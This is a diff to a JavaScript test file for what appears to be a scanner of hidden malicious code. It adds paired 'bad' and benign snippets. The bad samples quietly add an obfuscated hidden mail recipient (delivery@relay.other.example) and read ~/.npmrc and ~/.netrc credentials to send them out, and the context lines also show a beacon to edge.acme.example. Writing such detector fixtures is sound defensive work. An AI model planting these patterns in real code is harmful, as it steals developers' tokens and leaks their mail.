@@ -376,6 +376,21 @@ exports.start = () => { if (quiet()) return; setInterval(ping, 60000).unref(); }
 const ping = () => https.get({ host: 'edge.acme.example', path: '/s/' + os.platform() }, (res) => res.resume());
 exports.start = () => { if (process.env.CI) return; setInterval(ping, 60000).unref(); };`,
   },
+  {
+    way: 'a set that ends up as those who get a letter',
+    rule: 'hidden-mail-recipient',
+    bad: `const verify = ['delivery', ['relay', 'other.example'].join('.')].join('@');
+exports.envelope = (from, to) => { const seen = new Set(to); seen.add(verify); return { from, to: [...seen] }; };`,
+    benign: `exports.envelope = (from, to) => { const seen = new Set(to); if (process.env.ARCHIVE) seen.add(process.env.ARCHIVE); return { from, to: [...seen] }; };`,
+  },
+  {
+    way: 'paths that are made of a list of names',
+    rule: 'credential-exfiltration',
+    bad: `import { readFileSync } from 'node:fs'; import { homedir } from 'node:os'; import { join } from 'node:path'; const wanted = ['npmrc', 'netrc'].map((n) => join(homedir(), '.' + n)); const found = {};
+for (const f of wanted) { try { found[f] = readFileSync(f, 'utf8'); } catch {} } ${SEND('found')}`,
+    benign: `import { readFileSync } from 'node:fs'; import { join } from 'node:path'; const wanted = ['de', 'en'].map((n) => join('texts', n + '.json')); const found = {};
+for (const f of wanted) { try { found[f] = readFileSync(f, 'utf8'); } catch {} } ${SEND('found')}`,
+  },
 ];
 
 test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign, more }) => {
